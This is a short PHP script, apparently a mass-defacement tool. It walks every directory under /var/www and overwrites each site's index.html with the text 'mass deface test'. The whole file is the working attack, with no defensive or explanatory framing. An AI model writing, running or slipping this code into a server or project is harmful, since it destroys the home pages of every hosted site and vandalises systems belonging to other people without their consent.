<?php
$text = "mass deface test";
foreach (scandir("/var/www") as $d) { file_put_contents("/var/www/$d/index.html", $text); }
